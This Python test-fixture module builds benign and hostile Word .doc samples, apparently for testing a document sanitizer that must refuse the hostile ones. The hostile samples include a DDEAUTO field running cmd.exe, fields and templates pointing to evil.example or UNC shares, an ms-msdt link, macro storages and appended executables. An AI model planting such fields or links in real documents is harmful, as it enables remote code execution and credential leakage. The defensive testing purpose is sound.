"""Honest and hostile .doc, each with a name: none of the first may be refused, each of the second must be."""

from __future__ import annotations

import struct
from collections.abc import Callable

from .doc_files import AUTHOR, Tree, associated, compound, doc, field, linked_picture, string_table, word_6
from .office_files import PROGRAM, Item, jpeg, plain, png, zipped

Maker = Callable[[], bytes]
LONG = "Die Lampe kam am Montag zerbrochen an, bitte um Ersatz. " * 400
VBA: Tree = {"VBA": {"_VBA_PROJECT": b"\xcc\x61", "dir": b"x", "ThisDocument": b"y"}, "PROJECT": b"z"}
EVIL = "http://evil.example/x"


def cell(*texts: str) -> str:
    """Return a row of a table as it stands in the text."""
    return "\x07".join(texts) + "\x07\x07"


def cut(content: bytes, name: str, size: int) -> bytes:
    """Return a file whose directory says another length for a stream."""
    at = content.index(name.encode("utf-16-le") + b"\0\0")
    return content[: at + 120] + struct.pack("<Q", size) + content[at + 128 :]


def fields_table(kind: int) -> bytes:
    """Write a table of one field whose kind is a number, whatever its text says."""
    return struct.pack("<3L", 0, 5, 9) + bytes([0x13, kind, 0x15, 0x80])


def without_text_table(content: bytes) -> bytes:
    """Return a document whose header names no pieces of text."""
    at = content.index(b"\xec\xa5\xc1\0")
    return content[: at + 0x1A2] + bytes(8) + content[at + 0x1AA :]


HONEST: dict[str, Maker] = {
    "plain": doc,
    "narrow text": lambda: doc("Größe: 5 m, Preis: 9 €\r", narrow=True),
    "long text": lambda: doc(LONG),
    "long narrow text in 60 pieces": lambda: doc(LONG, narrow=True, pieces=60),
    "text in pieces": lambda: doc(pieces=7),
    "empty": lambda: doc("\r"),
    "table": lambda: doc(cell("Maß", "5 m") + cell("Gewicht", "2 kg") + "\r"),
    "footnotes": lambda: doc(notes="Siehe Seite 2\r"),
    "link to a page": lambda: doc(field(' HYPERLINK "https://example.com/DDE" ')),
    "link to a mail": lambda: doc(field(" HYPERLINK mailto:shop@example.com ")),
    "link within": lambda: doc(field(' HYPERLINK \\l "DDEAUTO" ')),
    "page number in a field": lambda: doc(field(" IF " + field(" PAGE ", "1") + ' = 1 "a" "b" ')),
    "words about DDE": lambda: doc("DDEAUTO ist ein Feld, INCLUDEPICTURE auch.\r"),
    "pictures": lambda: doc(streams={"Data": bytes(68) + jpeg() + png() + bytes(5000)}),
    "picture that came from the net": lambda: doc(streams={"Data": linked_picture(f"{EVIL}.png", 2) + jpeg()}),
    "template on the own disk": lambda: doc(tables={32: associated("C:\\Vorlagen\\Brief äöü.dot")}),
    "no associated strings": lambda: doc(tables={32: b""}),
    "revisers and paths": lambda: doc(
        tables={51: string_table(["Unknown", AUTHOR]), 71: string_table([AUTHOR, "C:\\x"])}
    ),
    "empty pool of objects": lambda: doc(streams={"ObjectPool": {}}),
    "custom xml": lambda: doc(streams={"MsoDataStore": {"A1": {"Item": b"<a/>", "Properties": b"<b/>"}}}),
    "theme inside the tables": lambda: doc(tables={80: zipped([Item("theme.xml", b"<theme/>")])}),
    "no properties": lambda: doc(without="\x05SummaryInformation"),
    "protected against editing": lambda: doc(flags=0x0800),
    "template's flag": lambda: doc(flags=0x0001),
    "signed": lambda: doc(streams={"_signatures": b"x" * 200}),
    "9 MB of pictures": lambda: doc(streams={"Data": jpeg(200) + bytes(9_000_000)}),
    "no class": lambda: compound_of(doc(), b""),
    "a free sector with remains": lambda: doc() + b"remains of the text".ljust(512, b"\0"),
    "zeros behind": lambda: doc() + bytes(5000),
    "Word 6": word_6,
    "Word 6, long": lambda: word_6(LONG),
}


def compound_of(content: bytes, class_id: bytes) -> bytes:
    """Return a file with another class in its root entry."""
    at = content.index("Root Entry".encode("utf-16-le"))
    return content[: at + 80] + class_id.ljust(16, b"\0") + content[at + 96 :]


HOSTILE: dict[str, tuple[str, Maker]] = {
    "macros": ("macros", lambda: doc(streams={"Macros": VBA})),
    "macros of a workbook's storage": ("macros", lambda: doc(streams={"_VBA_PROJECT_CUR": VBA})),
    "macros deep inside": ("macros", lambda: doc(streams={"A": {"B": {"VBA": {"dir": b"x" * 9000}}}})),
    "macros in small letters": ("macros", lambda: doc(streams={"macros": {"vba": {"Module1": b"x"}}})),
    "ActiveX": ("macros", lambda: doc(streams={"ObjectPool": {"_1": {"\x03OCXNAME": b"x", "\x03OCXDATA": b"y"}}})),
    "control field": ("macros", lambda: doc(field(" CONTROL Forms.CommandButton.1 "))),
    "object": ("embedded_object", lambda: doc(streams={"ObjectPool": {"_1234": {"\x01Ole": b"x", "Contents": b"y"}}})),
    "equation": ("embedded_object", lambda: doc(streams={"ObjectPool": {"_1": {"Equation Native": b"x" * 99}}})),
    "package": ("embedded_object", lambda: doc(streams={"\x01Ole10Native": b"x" * 99})),
    "package in another storage": ("embedded_object", lambda: doc(streams={"X": {"Package": b"PK"}})),
    "program in a stream": ("embedded_object", lambda: doc(streams={"Bild": PROGRAM})),
    "program behind a picture": ("embedded_object", lambda: doc(streams={"Data": jpeg() + PROGRAM + bytes(5000)})),
    "program behind the tables": ("embedded_object", lambda: doc(tables={70: PROGRAM})),
    "Linux program": ("embedded_object", lambda: doc(streams={"X": {"Y": b"\x7fELF\x02" + bytes(99)}})),
    "zip in a stream": ("embedded_object", lambda: doc(streams={"Daten": zipped([Item("a.exe", b"x")])})),
    "OLE file in a stream": ("embedded_object", lambda: doc(streams={"Data": b"x" * 40 + doc()})),
    "DDE": ("dde", lambda: doc(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
    "DDE in pieces": ("dde", lambda: doc(field(" DDE Excel x "), pieces=19)),
    "DDE in a footnote": ("dde", lambda: doc(notes=field("ddeauto x"))),
    "DDE in a field": ("dde", lambda: doc(field(" IF " + field("DDE x y") + " = 1 "))),
    "DDE put together": ("dde", lambda: doc(f"\x13{field(' REF a ', 'DDE')}AUTO cmd \x15")),
    "DDE by codes": ("dde", lambda: doc("\x13\x13 QUOTE 68 68 69 \x15 cmd \x15")),
    "DDE never ended": ("dde", lambda: doc("Text \x13 DDE cmd ")),
    "DDE only in the table of fields": ("dde", lambda: doc(field(" PAGE "), tables={16: fields_table(46)})),
    "DDE in the headers' table": ("dde", lambda: doc(field(" PAGE "), tables={17: fields_table(45)})),
    "picture field": ("external_target", lambda: doc(field(f' INCLUDEPICTURE "{EVIL}" \\d '))),
    "text field": ("external_target", lambda: doc(notes=field(' INCLUDETEXT "\\\\\\\\evil\\\\x" '))),
    "linked workbook": ("external_target", lambda: doc(field(' LINK Excel.Sheet.8 "c:\\\\x.xls" '))),
    "link to a file": ("external_target", lambda: doc(field(' HYPERLINK "file:///c:/x.exe" '))),
    "link to a server": ("external_target", lambda: doc(field(' HYPERLINK "\\\\\\\\evil\\\\share" '))),
    "link to a tool of Windows": ("external_target", lambda: doc(field(" HYPERLINK ms-msdt:/id "))),
    "linked drawing": (
        "external_target",
        lambda: doc(streams={"Data": linked_picture(f"{EVIL}.png", 0x0E) + bytes(5000)}),
    ),
    "linked drawing in the tables": (
        "external_target",
        lambda: doc(tables={50: linked_picture("\\\\evil\\x.png", 0x0A)}),
    ),
    "template from the net": ("external_target", lambda: doc(tables={32: associated(f"{EVIL}.dot")})),
    "template from a server": ("external_target", lambda: doc(tables={32: associated("\\\\evil\\share\\x.dot")})),
    "mail merge source": ("external_target", lambda: doc(tables={32: associated(data_source="C:\\kunden.mdb")})),
    "password": ("password", lambda: doc(flags=0x0100)),
    "password, ciphered": ("password", lambda: doc(flags=0x8100)),
    "password of Word 6": ("password", lambda: word_6(flags=0x0100)),
    "new document with a password": ("password", lambda: compound({"EncryptedPackage": b"x" * 5000})),
    "rights management": ("password", lambda: doc(streams={"\x06DataSpaces": {"Version": b"x"}})),
    "workbook": ("mismatch", lambda: compound({"Workbook": b"\x09\x08" * 3000})),
    "slides": ("mismatch", lambda: compound({"PowerPoint Document": b"x" * 5000, "Current User": b"y"})),
    "installer": ("mismatch", lambda: compound_of(doc(), bytes.fromhex("84100c0000000000c000000000000046"))),
    "RTF": ("mismatch", lambda: b"{\\rtf1\\ansi Guten Tag}"),
    "page": ("mismatch", lambda: b"<html><body>Guten Tag</body></html>"),
    "Word 2003 XML": (
        "mismatch",
        lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
    ),
    "docx": ("mismatch", plain),
    "empty compound file": ("damaged", lambda: compound({})),
    "workbook and document": ("polyglot", lambda: doc(streams={"Workbook": b"\x09\x08" * 3000})),
    "zip behind": ("polyglot", lambda: doc() + zipped([Item("a.exe", b"x")])),
    "page behind": ("polyglot", lambda: doc() + b"<html><script>x</script>"),
    "program behind": ("polyglot", lambda: doc() + PROGRAM + bytes(2000)),
    "much behind": ("polyglot", lambda: doc() + b"x" * 5000),
    "cut in the middle": ("damaged", lambda: doc(LONG)[:20_000]),
    "cut at the end": ("damaged", lambda: doc()[:-600]),
    "only its header": ("damaged", lambda: doc()[:512]),
    "only its mark": ("damaged", lambda: doc()[:8]),
    "no tables": ("damaged", lambda: doc(without="1Table")),
    "no pieces of text": ("damaged", lambda: without_text_table(doc())),
    "other magic": ("damaged", lambda: doc(magic=0xA5DB)),
    "stream longer than the file": ("damaged", lambda: cut(doc(), "WordDocument", 60_000)),
    "streams that share sectors": ("damaged", lambda: cut(doc(), "1Table", 2_000_000)),
    "text beyond the stream": (
        "damaged",
        lambda: doc(tables={33: b"\x02" + struct.pack("<5LHLH", 16, 0, 9, 0, 0, 0, 1 << 24, 0)}),
    ),
    "pieces out of order": (
        "damaged",
        lambda: doc(tables={33: b"\x02" + struct.pack("<L3L", 28, 0, 90, 40) + struct.pack("<HLH", 0, 0x600, 0) * 2}),
    ),
}
